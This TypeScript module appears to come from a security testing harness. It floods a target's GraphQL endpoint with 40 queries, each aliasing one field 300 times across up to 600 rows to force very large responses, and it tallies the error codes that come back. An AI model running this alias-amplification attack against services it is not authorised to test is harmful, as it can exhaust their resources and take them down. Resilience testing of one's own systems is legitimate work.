// Requests many of GraphQL's largest responses at once: rows with one column under 300 names each.

import { ask } from "../ask.ts";
import { type Attack, failureOf, Outcomes, repeat } from "../attack.ts";
import { JSON_TYPE } from "../callers.ts";

const AT_ONCE = 40;
const ALIASES = Array.from({ length: 300 }, (_, index) => `a${index}: content`).join(" ");
/** Requests for all rows, and for as many as one response contains. */
const BODIES = [600, 50].map((first) =>
  JSON.stringify({ query: `{ articles(first: ${first}) { edges { node { ${ALIASES} } } } }` }),
);

export const attack: Attack = async (target) => {
  const outcomes = new Outcomes();
  await repeat(target, { times: AT_ONCE, pauseMs: 250 }, async (index) => {
    const body = BODIES[index % BODIES.length]!;
    try {
      const { status, text } = await ask(`${target.url}/graphql`, { method: "POST", headers: JSON_TYPE, body });
      outcomes.count(/"code":"([A-Z_]+)"/.exec(text)?.[1] ?? String(status));
    } catch (error) {
      const failure = failureOf(error);
      outcomes.count(failure);
      outcomes.fault(`an answer in place of which there is ${failure}`);
    }
  });
  return outcomes.result;
};
